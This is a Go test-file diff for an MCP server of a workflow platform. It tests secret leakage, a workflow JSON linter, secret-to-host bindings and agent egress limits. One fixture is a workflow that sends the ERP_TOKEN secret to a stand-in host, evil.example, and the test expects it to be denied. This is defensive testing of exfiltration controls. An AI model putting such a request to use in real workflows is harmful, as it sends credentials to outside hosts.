@@ -257,6 +257,9 @@ func TestSecretsNeverLeave(t *testing.T) {
 		out.Write(b)
 	}
 	for name, v := range values {
+		if name == inbox.DestinationsSecretName("ERP_TOKEN") {
+			continue // the hosts a secret may go to are shown by secrets_list, by design
+		}
 		if strings.Contains(out.String(), v) {
 			t.Errorf("secret %s's value reached a client", name)
 		}
@@ -323,10 +326,22 @@ func TestWorkflowsValidate(t *testing.T) {
 	if !v.OK {
 		t.Errorf("valid document: %+v", v)
 	}
-	v = inboxmcp.Validation{}
-	structured(t, h.Call(cs, "workflows_validate", map[string]any{"document": `{"result":`}), &v)
-	if v.OK || !strings.Contains(string(v.Diagnostics), "invalid_json") {
-		t.Errorf("invalid document: %+v", v)
+	// The platform's linter: codes, pointers, positions — a key written
+	// twice is an error, as when the document runs.
+	for doc, code := range map[string]string{
+		`{"result":`: "json-syntax",
+		`{"result":{},"workflow":[{"type":"request","url":"https://x.example/"}],"workflow":[]}`: "json-duplicate-key",
+	} {
+		v = inboxmcp.Validation{}
+		structured(t, h.Call(cs, "workflows_validate", map[string]any{"document": doc}), &v)
+		var ds []struct {
+			Code     string
+			Severity string
+			Range    struct{ Start struct{ Line, Column int } }
+		}
+		if err := json.Unmarshal(v.Diagnostics, &ds); err != nil || v.OK || len(ds) == 0 || ds[0].Code != code || ds[0].Severity != "error" || ds[0].Range.Start.Line != 1 {
+			t.Errorf("%s: %+v %s (%v)", doc, v.OK, v.Diagnostics, err)
+		}
 	}
 }
 
@@ -409,6 +424,21 @@ func TestEmailDeleteRemovesTheRawMessage(t *testing.T) {
 // keeps the destinations; deleting the secret deletes them, so a new
 // secret of the same name starts unbound.
 func TestSecretDestinations(t *testing.T) {
+	// The demo binds ERP_TOKEN to the ERP, and its chat webhook URL is
+	// bound to its own host.
+	{
+		h := newHarness(t)
+		cs := h.Connect("owner", "2025-11-25", nil)
+		var sl inboxmcp.SecretList
+		structured(t, h.Call(cs, "secrets_list", nil), &sl)
+		got := map[string]string{}
+		for _, s := range sl.Secrets {
+			got[s.Name] = strings.Join(s.Destinations, " ") + " by " + s.BoundBy
+		}
+		if got["ERP_TOKEN"] != "erp.example.com by secrets_set" || got["CHAT_WEBHOOK_URL"] != "chat.example.com by url" {
+			t.Errorf("the demo's secrets: %v", got)
+		}
+	}
 	h := newHarness(t)
 	cs := h.Connect("owner", "2025-11-25", nil)
 	list := func() map[string]inboxmcp.SecretName {
@@ -471,5 +501,39 @@ func TestSecretDestinations(t *testing.T) {
 	h.Call(cs, "secrets_set", map[string]any{"name": "PAY_TOKEN", "value": "new-one-1234"})
 	if s := list()["PAY_TOKEN"]; s.Destinations != nil {
 		t.Errorf("a new secret inherited destinations: %+v", s)
+	}
+}
+
+// TestValidateWithTheWorkspace: workflows_validate lints with the
+// workspace's secret names and destinations, and with an agent's egress
+// list when asked as that agent's answer — what the agent's repair rounds
+// are told.
+func TestValidateWithTheWorkspace(t *testing.T) {
+	h := newHarness(t)
+	cs := h.Connect("owner", "2025-11-25", nil)
+	codes := func(args map[string]any) []string {
+		t.Helper()
+		var v inboxmcp.Validation
+		structured(t, h.Call(cs, "workflows_validate", args), &v)
+		var ds []struct{ Code string }
+		json.Unmarshal(v.Diagnostics, &ds)
+		var out []string
+		for _, d := range ds {
+			out = append(out, d.Code)
+		}
+		return out
+	}
+	doc := `{"result": 1, "workflow": [{"type": "request", "url": "https://evil.example/x", "body": {"t": "${{secrets.ERP_TOKEN}}", "u": "${{secrets.ERP_TOKN}}"}}]}`
+	if got := codes(map[string]any{"document": doc}); strings.Join(got, " ") != "secret-destination-denied secrets-unknown-name" {
+		t.Errorf("codes %v", got)
+	}
+	var a inbox.Agent
+	structured(t, h.Call(cs, "agents_create", map[string]any{"name": "R", "model": "claude-haiku-4-5", "system_message": "x", "settings": map[string]any{"egress": []string{"erp.example.com"}}}), &a)
+	plain := `{"result": 1, "workflow": [{"type": "request", "url": "https://evil.example/x", "body": "hi"}]}`
+	if got := codes(map[string]any{"document": plain, "agent_id": a.ID}); strings.Join(got, " ") != "egress-denied" {
+		t.Errorf("as the agent's answer: %v", got)
+	}
+	if got := codes(map[string]any{"document": plain}); got != nil {
+		t.Errorf("without an agent: %v", got)
 	}
 }
